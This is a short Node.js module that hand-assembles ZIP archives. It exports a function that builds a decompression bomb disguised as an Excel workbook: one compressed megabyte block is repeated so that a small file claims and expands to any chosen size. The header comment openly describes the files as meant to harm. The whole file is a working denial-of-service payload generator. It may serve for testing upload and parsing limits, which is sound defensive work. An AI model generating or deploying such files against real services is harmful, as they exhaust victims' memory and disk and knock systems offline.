// Packages as files that are meant to harm have them, without the work of packing gigabytes.
import zlib from "node:zlib";

/**
 * A package of these parts, each with its `name` and `bytes`, or with what is `packed` already and its `size`.
 * What is `packed` has no right checksum: whoever unpacks it to its end finds it broken.
 */
export function pack(parts) {
  const [bodies, directory] = [[], []];
  let place = 0;
  for (const { name, bytes, packed = zlib.deflateRawSync(bytes), size = bytes.length } of parts) {
    const title = Buffer.from(name);
    const head = Buffer.alloc(26);
    head.writeUInt16LE(20, 0);
    head.writeUInt16LE(0x800, 2);
    head.writeUInt16LE(8, 4);
    head.writeUInt32LE(bytes ? crc32(bytes) : 0, 10);
    head.writeUInt32LE(packed.length, 14);
    head.writeUInt32LE(Math.min(size, 0xffffffff), 18);
    head.writeUInt16LE(title.length, 22);
    bodies.push(Buffer.from("PK\x03\x04"), head, title, packed);
    const entry = Buffer.alloc(14);
    entry.writeUInt32LE(place, 10);
    directory.push(Buffer.from("PK\x01\x02"), Buffer.from([20, 0]), head, entry, title);
    place += 30 + title.length + packed.length;
  }
  const entries = Buffer.concat(directory);
  const end = Buffer.alloc(18);
  end.writeUInt16LE(parts.length, 4);
  end.writeUInt16LE(parts.length, 6);
  end.writeUInt32LE(entries.length, 8);
  end.writeUInt32LE(place, 12);
  return Buffer.concat([...bodies, entries, Buffer.from("PK\x05\x06"), end]);
}

/** A workbook whose sheet is one text over and over, so many bytes of it. */
export function bomb(text, size) {
  const megabyte = Buffer.from(text.repeat(Math.ceil(2 ** 20 / text.length)));
  // A piece that ends at a whole byte can stand any number of times.
  const piece = zlib.deflateRawSync(megabyte, { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH });
  const count = Math.ceil(size / megabyte.length);
  const packed = Buffer.concat([...Array(count).fill(piece), zlib.deflateRawSync("")]);
  return pack([
    { name: "[Content_Types].xml", bytes: Buffer.from("<Types/>") },
    { name: "xl/worksheets/sheet1.xml", packed, size: megabyte.length * count },
  ]);
}

function crc32(bytes) {
  let crc = ~0;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (0xedb88320 & -(crc & 1));
  }
  return ~crc >>> 0;
}
